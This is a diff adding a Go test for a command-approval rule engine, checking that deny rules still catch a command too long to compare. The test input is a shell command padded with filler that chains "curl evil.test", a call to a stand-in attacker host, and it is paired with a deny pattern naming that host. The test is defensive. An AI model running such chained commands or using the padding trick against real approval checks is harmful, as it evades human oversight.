@@ -46,6 +46,22 @@ func TestRulesDecide(t *testing.T) {
 	}
 }
 
+// A command that is too long to compare, or that no pattern may be about, does not slip past what denies.
+func TestRulesDenyWhatCannotBeCompared(t *testing.T) {
+	long := "exec:///bin/sh -c '" + strings.Repeat("x", 20<<10) + "; curl evil.test'"
+	r, err := parseRules(true, "", []string{"exec:///bin/sh **"}, []string{"exec:///** evil.test*"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, flag := r.decide(abi.ApprovalRequired{Resource: long}); got != abi.DecisionDeny || flag != "--deny" {
+		t.Errorf("%s by %q", got, flag)
+	}
+	r.deny = nil
+	if got, flag := r.decide(abi.ApprovalRequired{Resource: long}); got != abi.DecisionApprove || flag != "--yes" {
+		t.Errorf("without --deny: %s by %q", got, flag)
+	}
+}
+
 func TestRulesRisk(t *testing.T) {
 	for _, bad := range []string{"none", "Low", "5"} {
 		if _, err := parseRules(false, bad, nil, nil); err == nil || !strings.Contains(err.Error(), "--max-risk") {
